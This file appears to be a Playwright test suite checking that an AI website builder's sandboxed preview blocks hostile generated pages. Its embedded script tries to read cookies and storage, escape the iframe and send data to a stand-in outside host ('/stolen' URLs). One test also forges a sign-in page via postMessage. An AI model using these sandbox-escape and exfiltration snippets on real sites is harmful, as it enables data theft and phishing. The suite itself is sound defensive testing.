import { strToU8, zipSync } from 'fflate';
import type { FrameLocator, Page } from 'playwright/test';
import type { FakeAiService } from '../server/testing/ai-service.ts';
import { test } from './support/ai-service.ts';
import { ready } from './support/ready.ts';
import { expect } from './support/test.ts';

// One after the other, so that they share a server.
test.describe.configure({ mode: 'default' });

/** Tries, one after the other, all that a page could want of the site and of the visitor, and writes down what became of it. */
const attempts = (
  elsewhere: string,
) => `const kept = (value) => { if (value === null || value === undefined) throw new Error('nothing'); };
const event = (make, good, bad) => new Promise((resolve, reject) => {
  const thing = make();
  thing['on' + good] = resolve;
  thing['on' + bad] = reject;
});
const element = (name, values) => event(() => {
  const made = Object.assign(document.createElement(name), values);
  document.body.append(made);
  return made;
}, 'load', 'error');
const attempts = {
  localStorage: () => localStorage.setItem('a', 'b'),
  sessionStorage: () => sessionStorage.setItem('a', 'b'),
  indexedDB: () => event(() => indexedDB.open('plinth-ai-builder'), 'success', 'error'),
  caches: () => caches.open('a'),
  'cookies, read': () => document.cookie,
  'cookies, written': () => { document.cookie = 'a=b'; },
  'service worker': () => navigator.serviceWorker.register('/stolen.js'),
  'a popup': () => kept(window.open('/stolen?popup')),
  fetch: () => fetch('/stolen?fetch'),
  'fetch elsewhere': () => fetch('${elsewhere}/stolen', { mode: 'no-cors' }),
  XMLHttpRequest: () => event(() => { const x = new XMLHttpRequest(); x.open('GET', '/stolen?xhr'); x.send(); return x; }, 'load', 'error'),
  WebSocket: () => event(() => new WebSocket('${elsewhere.replace('http', 'ws')}/stolen'), 'open', 'error'),
  EventSource: () => event(() => new EventSource('/stolen?events'), 'open', 'error'),
  'a picture': () => element('img', { src: '/favicon.svg?stolen' }),
  'a picture elsewhere': () => element('img', { src: '${elsewhere}/stolen.png' }),
  'a script': () => element('script', { src: '/stolen.js' }),
  'a style sheet': () => element('link', { rel: 'stylesheet', href: '/stolen.css' }),
  eval: () => new Function('return 1')(),
};
if (parent !== window) Object.assign(attempts, {
  'the page around': () => parent.document.title,
  'its storage': () => parent.localStorage.length,
  'its address': () => parent.location.href,
  'the page on top': () => top.document.title,
  'leading the page on top away': () => { top.location.href = '/blog'; },
});
else attempts.opener = () => kept(window.opener);
(async () => {
  const list = document.getElementById('list');
  for (const [name, attempt] of Object.entries(attempts)) {
    const wait = new Promise((resolve, reject) => setTimeout(reject, 15000));
    const outcome = await Promise.race([(async () => attempt())(), wait]).then(() => 'reached', () => 'refused');
    list.append(Object.assign(document.createElement('li'), { textContent: name + ': ' + outcome }));
  }
  document.getElementById('end').textContent = 'All tried';
  // With the network on these have a journey of their own.
  if (location.pathname.endsWith('/on')) return;
  // These say nothing about how they went: the journey looks at what arrives.
  navigator.sendBeacon('/stolen?beacon');
  const link = Object.assign(document.createElement('a'), { href: '/stolen?top', target: '_top' });
  document.body.append(link);
  // In a tab of its own, the page on top is itself, or shows it in a frame.
  if (parent !== window && location.protocol !== 'about:') link.click();
  // A page whose own navigation was refused can not be read by the test any more, so that waits for a press.
  else {
    await new Promise((go) => document.addEventListener('click', go, { once: true }));
    if (parent !== window) link.click();
  }
  const form = Object.assign(document.createElement('form'), { action: '/stolen?form', method: 'post' });
  document.body.append(form);
  form.submit();
})();`;
const reply = (script: string) => `\`\`\`html
<!doctype html>
<html lang="en"><head><title>Tries</title></head><body><h1>Tries</h1><ul id="list"></ul><p id="end"></p></body></html>
\`\`\`
\`\`\`css
h1 { color: navy; }
\`\`\`
\`\`\`js
${script}
\`\`\`
`;
const FRAME = 'iframe[title="Preview of your page"]';

test('a page that tries everything reaches nothing, in the preview and in a tab of its own', async ({
  page,
  login,
  service,
}) => {
  // So that there is something to steal.
  await login(page);
  const arrived: string[] = [];
  page.context().on('response', (response) => {
    if (response.url().includes('stolen')) arrived.push(response.url());
  });
  await generate(page, service, attempts(originOf(service)));
  const frame = page.frameLocator(FRAME);
  await expect(frame.getByText('All tried')).toBeVisible();
  // All at one moment: a run that was begun while the reply came is replaced by that of the whole page.
  await expect(frame.getByRole('listitem')).toHaveText(Array(23).fill(/: refused$/));
  expect(new URL(page.url()).pathname).toBe('/ai-temp-build');

  const [tab] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: 'Run', exact: true }).click(),
  ]);
  await expect(tab.getByText('All tried')).toBeVisible();
  await expect(tab.getByRole('listitem')).toHaveText(Array(19).fill(/: refused$/));
  await Promise.all([
    tab.waitForEvent('console', (message) => /form/i.test(message.text())),
    tab.mouse.click(5, 5),
  ]);
  expect(arrived).toEqual([]);
});

test('the network is reached when it is switched on, and still nothing of the site', async ({
  page,
  login,
  service,
}) => {
  await login(page);
  await generate(page, service, attempts(originOf(service)));
  const frame = page.frameLocator(FRAME);
  await expect(frame.getByText('All tried')).toBeVisible();
  await page.getByRole('switch', { name: 'Network' }).click();
  await expect(frame.getByText('fetch elsewhere: reached')).toBeVisible();
  await expect(frame.getByText('All tried')).toBeVisible();
  const lines = await frame.getByRole('listitem').allTextContents();
  const still = [
    'localStorage',
    'indexedDB',
    'caches',
    'cookies, read',
    'cookies, written',
    'service worker',
    'a popup',
  ];
  const around = ['the page around', 'its storage', 'its address', 'leading the page on top away'];
  for (const name of [...still, ...around]) expect(lines).toContain(`${name}: refused`);
  // What looks for faults has come, so that it is not among what is heard.
  await expect.poll(() => frame.locator('body').evaluate(() => 'axe' in window)).toBe(true);
  // A frame that comes late with the other network gets no page to run; what starts is asked whether one picks.
  const answers = await frame.getByText('All tried').evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const heard: string[] = [];
        addEventListener('message', ({ data }) => {
          heard.push(...Object.keys(data));
          if ('plinthPick' in data) resolve(heard);
        });
        parent.postMessage({ plinthRun: 'ready', at: '/ai-run/off' }, '*');
        parent.postMessage({ plinthStarted: true }, '*');
      }),
  );
  expect(answers).toEqual(['plinthPick']);
  expect(new URL(page.url()).pathname).toBe('/ai-temp-build');
});

test('a page that leads itself to another host does not get there', async ({ page, service }) => {
  const elsewhere = originOf(service);
  const arrived: string[] = [];
  page.context().on('response', (response) => {
    if (response.url().startsWith(`${elsewhere}/stolen`)) arrived.push(response.url());
  });
  await generate(page, service, `location.href = '${elsewhere}/stolen?' + document.title;`);
  // The browser shows its own page about the refusal in place of the page.
  await expect(page.frameLocator(FRAME).getByRole('heading', { name: 'Tries' })).toBeHidden();
  expect(arrived).toEqual([]);
});

test('with the network on a form still leads nowhere, in the preview and in a tab of its own', async ({
  page,
  service,
}) => {
  const arrived: string[] = [];
  page.context().on('response', (response) => {
    if (response.url().includes('stolen')) arrived.push(response.url());
  });
  const form = `const form = document.createElement('form');
Object.assign(form, { action: '${originOf(service)}/stolen', method: 'post' });
document.body.append(location.pathname, form);`;
  await generate(page, service, form);
  await page.getByRole('switch', { name: 'Network' }).click();
  const frame = page.frameLocator(FRAME);
  await expect(frame.getByText('/ai-run/on')).toBeVisible();
  // A preview that axe looks at does not begin anew.
  await expect.poll(() => frame.locator('body').evaluate(() => 'axe' in window)).toBe(true);
  const refused = () =>
    page.context().waitForEvent('console', (message) => message.text().includes("form-action 'none'"));
  // Once the call has returned: a page whose own navigation was refused can not be read by the test any more.
  const send = (place: FrameLocator | Page) =>
    place.locator('form').evaluate((made: HTMLFormElement) => void setTimeout(() => made.requestSubmit()));
  await Promise.all([refused(), send(frame)]);

  const [tab] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: 'Run', exact: true }).click(),
  ]);
  await expect(tab.getByText('/ai-run/on')).toBeVisible();
  await Promise.all([refused(), send(tab)]);
  expect(arrived).toEqual([]);
});

test('no page of a website that was opened reaches anything', async ({ page, login, service }) => {
  await login(page);
  const arrived: string[] = [];
  page.context().on('response', (response) => {
    if (response.url().includes('stolen')) arrived.push(response.url());
  });
  const begin = (title: string) =>
    `<!doctype html><html lang="en"><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${originOf(service)}/"><title>${title}</title><h1>${title}</h1><ul id="list"></ul><p id="end"></p>`;
  const more = `Object.assign(attempts, {
    'a worker': () => event(() => new Worker('data:text/javascript,postMessage(1)'), 'message', 'error'),
    'a module of the site': () => import('/stolen.js?module'),
    'a module elsewhere': () => import('${originOf(service)}/stolen.js?module'),
  });
  parent.postMessage({ plinthGo: '/blog' }, '*');
  parent.postMessage({ plinthGo: '../../../healthz?stolen' }, '*');
  parent.postMessage({ plinthGo: '${originOf(service)}/stolen' }, '*');
  parent.postMessage({ plinthGo: { toString: 1 } }, '*');
  parent.postMessage({ plinthFile: '/favicon.svg' }, '*');
  parent.postMessage({ plinthFile: { toString: 1 } }, '*');
`;
  const script = attempts(originOf(service)).replace('(async () => {', () => `${more}(async () => {`);
  const files = {
    'index.html': `${begin('First')}<script src="js/tries.js"></script><a href="deep/second.html">Second</a>`,
    'deep/second.html': `${begin('Second')}<script type="module" src="../js/tries.js"></script>`,
    'js/tries.js': script,
  };
  const zip = zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)])));
  await page.route('**/customiser/files/hostile.zip', (route) =>
    route.fulfill({ contentType: 'application/zip', body: Buffer.from(zip) }),
  );
  await page.goto('/ai-temp-build?from=/template/hostile');
  const frame = page.frameLocator(FRAME);
  for (const title of ['First', 'Second']) {
    await page
      .getByRole('combobox', { name: 'Page' })
      .selectOption(title === 'First' ? 'index.html' : 'deep/second.html');
    await expect(frame.getByRole('heading', { name: title })).toBeVisible();
    await expect(frame.getByText('All tried')).toBeVisible();
    await expect(frame.getByRole('listitem')).toHaveText(Array(26).fill(/: refused$/));
    expect(new URL(page.url()).pathname).toBe('/ai-temp-build');
  }
  const [tab] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: 'Run', exact: true }).click(),
  ]);
  const shown = tab.frameLocator('iframe[title="Page"]');
  await expect(shown.getByText('All tried')).toBeVisible();
  await expect(shown.getByRole('listitem')).toHaveText(Array(26).fill(/: refused$/));
  expect(await tab.evaluate(() => window.opener)).toBeNull();
  await Promise.all([
    tab.waitForEvent('console', (message) => /form/i.test(message.text())),
    shown.getByRole('heading').click(),
  ]);
  expect(new URL(tab.url()).pathname).toBe('/ai-run/off');
  expect(arrived).toEqual([]);
});

test('no other site shows a page under this address', async ({ page, server }) => {
  // What a tab hears is written down before the page's own listener gets it.
  await page.context().addInitScript(() => {
    addEventListener('message', ({ origin }) => {
      document.documentElement.dataset.heard = origin;
    });
  });
  const elsewhere = 'http://elsewhere.example';
  const forged = '<!doctype html><title>Forged</title><h1>Sign in to this site</h1>';
  await page.route(`${elsewhere}/*`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><button>Open</button><script>
        document.querySelector('button').onclick = () => {
          const opened = open('${server.url}/ai-run/on');
          addEventListener('message', () => document.body.append('It was told.'));
          setInterval(() => opened.postMessage({ plinthPage: ${JSON.stringify(forged)} }, '*'), 50);
        };
      </script>`,
    }),
  );
  await page.goto(`${elsewhere}/`);
  const [tab] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: 'Open' }).click(),
  ]);
  await expect
    .poll(() => tab.evaluate(() => document.documentElement.dataset.heard ?? document.title))
    .toBe(elsewhere);
  await expect(tab).toHaveTitle('Preview');
  await expect(tab.getByRole('heading')).toHaveCount(0);
  await expect(page.getByText('It was told.')).toHaveCount(0);
});

const originOf = (service: FakeAiService) => new URL(service.url).origin;

async function generate(page: Page, service: FakeAiService, script: string): Promise<void> {
  service.answer({ reply: reply(script) });
  await page.goto('/ai-temp-build');
  const prompt = page.getByLabel('Describe your website');
  await ready(prompt);
  await prompt.fill('A page that tries everything');
  await prompt.press('Enter');
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
}
